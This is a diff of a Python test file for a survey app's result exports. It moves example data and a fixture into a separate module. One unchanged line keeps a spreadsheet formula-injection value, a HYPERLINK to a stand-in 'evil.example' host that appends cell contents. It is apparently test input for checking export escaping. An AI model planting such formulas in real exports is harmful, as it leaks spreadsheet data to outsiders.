@@ -6,7 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import zipfile
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from contextlib import contextmanager
 from typing import Any
 from urllib.parse import quote
@@ -16,35 +16,12 @@ from openpyxl import load_workbook
 from sqlalchemy import event
 
 from fitcheck.extensions import db
-from fitcheck.models import Kind, Side
-from fitcheck.services import assessments, exports, traits
+from fitcheck.models import Side
+from fitcheck.services import assessments, exports
 from fitcheck.services.assessments import AnswerInput
 from fitcheck.services.results import ResultsSealed, load_results
 
-TRAITS = ("passion", "response", "dialogue", "growth")
-# FIT_MODEL.md's worked example: other / self / importance per trait, None = can't judge.
-WORKED = {
-    "C1": {"passion": (4, 5, 5), "response": (3, 5, 4), "dialogue": (5, 4, 3), "growth": (2, 4, 3)},
-    "C2": {
-        "passion": (5, 4, 4),
-        "response": (2, 5, 5),
-        "dialogue": (4, 3, 3),
-        "growth": (None, 3, 2),
-    },
-    "K1": {
-        "passion": (4, 4, 3),
-        "response": (4, 3, 4),
-        "dialogue": (3, 5, None),
-        "growth": (4, 1, 3),
-    },
-}
-# Real-looking people, so a leak of their names or emails would show in the bytes.
-PEOPLE = {
-    "C1": ("Aiko Quennell", "aiko.quennell@example.org"),
-    "C2": ("Bartholomew Oyelaran", "bart.oyelaran@example.org"),
-    "K1": ("Kazuko Wrexham", "kazuko.wrexham@client.example"),
-}
-WORKED_MIRROR_SCORE = 64.1658
+from .worked_example import PEOPLE, TRAITS, WORKED, WORKED_MIRROR_SCORE
 
 FORMULAS = {
     "partner": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
@@ -62,79 +39,6 @@ def urls(assessment_id: int) -> list[str]:
         f"{base}/results.xlsx",
         f"{base}/results.json",
     ]
-
-
-@pytest.fixture
-def worked_example(make_user: Callable[..., Any], make_partner: Callable[..., Any]) -> Any:
-    """Build FIT_MODEL.md's worked example; returns (assessment, user)."""
-
-    def build(
-        *,
-        partner_name: str | None = None,
-        labels: dict[str, str] | None = None,
-        comments: dict[tuple[str, str], str] | None = None,
-        min_responses: int = 1,
-        reveal: bool = True,
-    ) -> tuple[Any, Any]:
-        user = make_user()
-        trait_set = traits.create_trait_set(
-            user.workspace_id,
-            name="Worked example",
-            scale_lo=1,
-            scale_hi=5,
-            point_labels={"en": list("12345"), "ja": list("12345")},
-        )
-        for key in TRAITS:
-            label = (labels or {}).get(key, key)
-            traits.add_trait(
-                trait_set,
-                traits.TraitText(
-                    label_en=label,
-                    label_ja=f"{label}（日本語）",
-                    question_other_en="{partner}?",
-                    question_other_ja="{partner}?",
-                    question_self_en="we?",
-                    question_self_ja="we?",
-                ),
-                key=key,
-            )
-        assessment = assessments.create_assessment(
-            make_partner(user.workspace, partner_name),
-            trait_set,
-            kind=Kind.PRE_CONTRACT,
-            min_responses_per_side=min_responses,
-        )
-        respondents = {
-            code: assessments.add_respondent(
-                assessment,
-                side=Side.CLIENT if code.startswith("K") else Side.COMPANY,
-                name=PEOPLE[code][0],
-                email=PEOPLE[code][1],
-            )[0]
-            for code in WORKED
-        }
-        assessments.launch(assessment)
-        for code, answers in WORKED.items():
-            assessments.save_answers(
-                respondents[code],
-                [
-                    AnswerInput(
-                        trait_key=key,
-                        other=other,
-                        other_cant_judge=other is None,
-                        self_=own,
-                        importance=importance,
-                        comment=(comments or {}).get((code, key), f"{code} on {key}"),
-                    )
-                    for key, (other, own, importance) in answers.items()
-                ],
-                submit=True,
-            )
-        if reveal:
-            assessments.reveal(assessment)
-        return assessment, user
-
-    return build
 
 
 def read_csv(body: bytes) -> list[dict[str, str]]:
